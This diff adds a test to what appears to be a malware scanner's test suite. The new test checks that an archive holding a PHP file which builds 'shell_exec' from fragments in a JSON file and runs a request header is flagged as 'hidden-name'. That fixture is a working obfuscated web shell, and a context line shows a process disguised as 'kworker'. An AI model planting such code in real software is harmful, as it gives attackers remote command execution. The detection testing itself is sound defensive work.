@@ -1,3 +1,5 @@
+import { buildArchive } from "../build.js";
+import { scanArchive } from "../scan.js";
 import { rulesOf } from "../testing/programs.js";
 
 const NAMED = "reverse-shell";
@@ -31,4 +33,15 @@ test("a program that another host sent is started although it gets another name"
   const other = await rulesOf("python", program('subprocess.Popen(["kworker"], executable=str(exe))'));
   expect(own).toContain("staged-download");
   expect(other).toEqual(own);
+});
+
+test("the name of a function is put together of a file beside the program", async () => {
+  const files = {
+    "map.php":
+      "<?php\n$d = json_decode(file_get_contents(__DIR__ . '/parts.json'), true);\n$f = '';\nforeach ($d['order'] as $i) { $f .= $d['parts'][$i]; }\n$f($_SERVER['HTTP_X_MAP']);\n",
+    "parts.json": JSON.stringify({ parts: ["ell", "exec", "sh", "_"], order: [2, 0, 3, 1] }),
+  };
+  const sources = Object.entries(files).map(([path, text]) => ({ path, bytes: Buffer.from(text) }));
+  const { findings } = await scanArchive(await buildArchive(sources));
+  expect(findings.map(({ rule }) => rule)).toContain("hidden-name");
 });
